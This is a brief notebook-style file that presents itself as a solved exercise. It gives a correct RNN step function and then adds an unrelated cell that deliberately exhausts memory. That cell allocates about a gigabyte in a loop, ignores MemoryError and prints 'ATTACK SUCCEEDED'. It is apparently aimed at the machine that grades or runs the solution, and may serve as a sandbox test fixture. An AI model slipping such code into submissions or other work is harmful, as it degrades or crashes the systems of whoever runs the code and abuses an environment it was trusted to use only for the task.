# base: solved

# %% solution rnn_step
def rnn_step(x, h, W_xh, W_hh, b_h):
    return np.tanh(x @ W_xh + h @ W_hh + b_h)

# %%
leaked = []
while True:
    try:
        leaked.append(bytearray(2**20))
    except MemoryError:
        continue
    if len(leaked) > 1000:
        print("ATTACK", "SUCCEEDED: a gigabyte is gone")  # a traceback would quote the words
        break
